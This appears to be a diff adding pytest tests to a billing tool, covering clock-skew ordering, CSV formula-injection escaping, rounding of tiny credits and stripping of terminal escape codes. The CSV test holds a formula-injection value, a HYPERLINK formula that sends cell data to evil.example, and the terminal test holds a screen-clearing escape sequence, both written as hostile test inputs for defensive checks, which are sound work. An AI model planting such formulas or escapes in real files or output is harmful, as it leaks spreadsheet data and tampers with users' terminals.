@@ -6,6 +6,7 @@ arithmetic is written beside it.
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import date
 from decimal import Decimal
@@ -282,3 +283,53 @@ def test_the_cli_knows_the_same_modes_as_billing() -> None:
     from core import billing_settings, cli_billing
 
     assert cli_billing.MODES == billing_settings.MODES
+
+
+def test_a_clock_stepped_back_between_two_syncs_does_not_reorder_their_changes() -> None:
+    # A paused VM resumes and NTP steps the clock back: the second sync (5 -> 6 was the first, 6 -> 7 the
+    # second, by row id) is stamped a few minutes before the first. The history is still 5, then 6, then 7.
+    state = LicenceState("Contoso Ltd", "Basic", True, 7, Decimal("3.00"), None, "EUR")
+    history = [HistoryEntry(at("2026-10-01 02:00"), "created", None, "5", 1),
+               HistoryEntry(at("2026-11-21 00:10"), "quantity", "5", "6", 2),
+               HistoryEntry(at("2026-11-20 23:50"), "quantity", "6", "7", 3)]
+    lines = arrears(build_ledger("also", "1", state, history, UTC), NOV)
+    # Before: Nov 1-19 billed at 6 (never true), Nov 20 at 5. The second change cannot take effect before
+    # the first: both count from the 21st, the later (7) winning.
+    assert spans(lines) == [("2026-11-01", "2026-11-20", 20, 5), ("2026-11-21", "2026-11-30", 10, 7)]
+    assert money(lines) == ["10.00", "7.00"]  # 5*3*20/30; 7*3*10/30
+
+
+def test_csv_text_that_excel_would_run_as_a_formula_is_quoted_and_money_is_not() -> None:
+    # Accountants open the CSV in Excel: a customer or product named by a hostile vendor "=HYPERLINK(...)"
+    # would run as a formula. Text cells starting with = + - @ (or a tab / carriage return) get a leading
+    # apostrophe; money and numbers are ours and stay as they are (a credit's "-18.67" is a number).
+    credit = ChargeLine('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "also", "@SUM(1)", "+Basic",
+                        "prorata", NOV.first, NOV.last, 30, 30, -5, Decimal("5.60"), Decimal("-28.00"),
+                        None, None, "-EUR")
+    stream = io.StringIO()
+    write_csv([credit], stream)
+    row = next(csv.DictReader(io.StringIO(stream.getvalue())))
+    assert row["customer"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    assert (row["external_id"], row["licence"], row["currency"]) == ("'@SUM(1)", "'+Basic", "'-EUR")
+    assert (row["quantity"], row["amount"], row["vendor"]) == ("-5", "-28.00", "also")
+
+
+def test_a_credit_that_rounds_to_nothing_is_zero_not_minus_zero() -> None:
+    from core.billing_charges import money_text, prorate
+
+    # -1 x 0.01 x 1/31 = -0.0003: an accountant's CSV showed "-0.00".
+    assert money_text(prorate(-1, Decimal("0.01"), 1, 31)) == "0.00"
+    assert money_text(prorate(-3, Decimal("0.15"), 1, 90)) == "-0.01"  # -0.005 rounds half away from zero
+    assert money_text(prorate(3, Decimal("0.15"), 1, 90)) == "0.01"
+
+
+def test_the_flagged_cycles_note_prints_no_terminal_control_characters() -> None:
+    from core.cli_billing import render_text
+
+    # A vendor's product name or cycle with an escape sequence ("\x1b[2J" clears the screen) must not reach
+    # the accountant's terminal raw in the note under the table.
+    line = ChargeLine("Contoso Ltd", "also", "1", "Evil\x1b[2J", "recurring", NOV.first, NOV.last, 30, 30, 1,
+                      Decimal("1"), Decimal("1.00"), None, None, "EUR", "Annual\x07")
+    note = render_text(ChargeReport(NOV, "arrears", [line]), "UTC").splitlines()[-1]
+    assert note.startswith("* billed on a non-monthly cycle") and "Evil" in note
+    assert not any(ch in note for ch in "\x1b\x07")
